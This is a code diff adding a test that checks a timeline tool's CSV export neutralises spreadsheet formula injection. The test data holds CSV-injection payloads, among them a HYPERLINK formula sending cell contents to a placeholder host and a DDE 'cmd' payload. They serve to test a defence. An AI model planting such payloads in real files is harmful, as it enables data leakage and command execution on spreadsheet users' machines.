@@ -504,6 +504,21 @@ def test_export_jsonl_and_csv_round_trip(timeline):
         export(timeline, "xml", io.StringIO())
 
 
+def test_csv_export_defuses_spreadsheet_formulas(db):
+    """Text a spreadsheet would execute (CSV injection) is exported as text; JSONL keeps it exact."""
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
+    write(db, [scene(c, i, camera=c if i == 0 else "gate") for i, c in enumerate(evil)] + [scene("a red car", 9)])
+    out = io.StringIO()
+    export(db, "jsonl", out)
+    assert [json.loads(line)["caption"] for line in out.getvalue().splitlines()] == evil + ["a red car"]
+    out = io.StringIO()
+    export(db, "csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [r["caption"] for r in rows] == ["'" + c for c in evil] + ["a red car"]
+    assert rows[0]["camera"] == "'" + evil[0] and rows[1]["camera"] == "gate"
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+
+
 def test_tail_backlog_and_since_id(timeline):
     assert captions(tail(timeline, follow=False, last=2)) == ["three cars in a parking lot", None]  # commit order
     assert len(list(tail(timeline, follow=False, last=100))) == 5
